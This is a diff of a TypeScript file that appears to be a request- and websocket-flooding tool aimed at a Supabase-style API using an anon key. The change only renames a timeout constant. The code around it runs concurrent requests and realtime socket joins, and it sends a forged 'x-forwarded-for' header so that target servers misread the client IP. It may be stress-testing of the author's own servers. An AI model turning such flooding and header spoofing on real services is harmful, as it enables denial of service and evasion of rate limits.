@@ -12,7 +12,7 @@ export interface AttackOrder {
 
 const AT_ONCE = 10;
 const SOCKETS = 20;
-const PATIENCE_MS = 20_000;
+const TIMEOUT_MS = 20_000;
 /** As a proxy on this machine would tell it: servers they are let loose on have it in TRUSTED_PROXIES. */
 const FROM = { 'x-forwarded-for': '203.0.113.66' };
 
@@ -75,7 +75,7 @@ async function repeat(act: () => Promise<unknown>): Promise<void> {
 async function send({ url, anonKey }: AttackOrder, path: string, init: RequestInit) {
   const own = { apikey: anonKey, 'content-type': 'application/json', ...FROM };
   const headers = { ...own, ...init.headers };
-  const signal = AbortSignal.timeout(PATIENCE_MS);
+  const signal = AbortSignal.timeout(TIMEOUT_MS);
   const answer = await fetch(url + path, { ...init, headers, signal });
   await answer.arrayBuffer();
 }
@@ -88,7 +88,7 @@ function listen({ url, anonKey }: AttackOrder): Promise<void> {
   const join = ['1', '1', 'realtime:harm', 'phx_join', { config: { postgres_changes } }];
   const address = `${url.replace('http', 'ws')}/realtime/v1/websocket?apikey=${anonKey}&vsn=2.0.0`;
   const socket = new WebSocket(address, { headers: FROM, perMessageDeflate: false });
-  const patience = setTimeout(() => socket.terminate(), PATIENCE_MS);
+  const patience = setTimeout(() => socket.terminate(), TIMEOUT_MS);
   return new Promise((resolve, reject) => {
     socket.on('open', () => socket.send(JSON.stringify(join)));
     socket.on('message', () => socket.terminate());
